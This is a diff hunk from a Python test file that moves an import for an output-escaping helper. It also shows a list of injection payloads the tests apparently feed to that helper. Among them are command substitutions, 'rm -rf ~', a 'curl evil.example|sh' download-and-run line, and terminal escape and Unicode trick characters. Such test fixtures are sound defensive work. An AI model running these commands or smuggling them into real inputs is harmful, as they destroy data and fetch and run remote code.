@@ -15,11 +15,11 @@ from urllib.parse import quote
 import pytest
 
 from tests.sources.links import link_to
-from trayapp.cli.output import escape_unprintable
 from trayapp.cli.shown_server import decisive_lines
 from trayapp.cli.source import Proposal, proposals
 from trayapp.config.read.entry import read_one
 from trayapp.model.errors import MultiMcpError
+from trayapp.model.text import escape_unprintable
 
 PAYLOADS = (
     "$(id)", "`id`", "; rm -rf ~", "&& curl evil.example|sh", "| sh", "> /etc/x", "\u202egnp.x", "a\u200bb", "\x1b[2J",
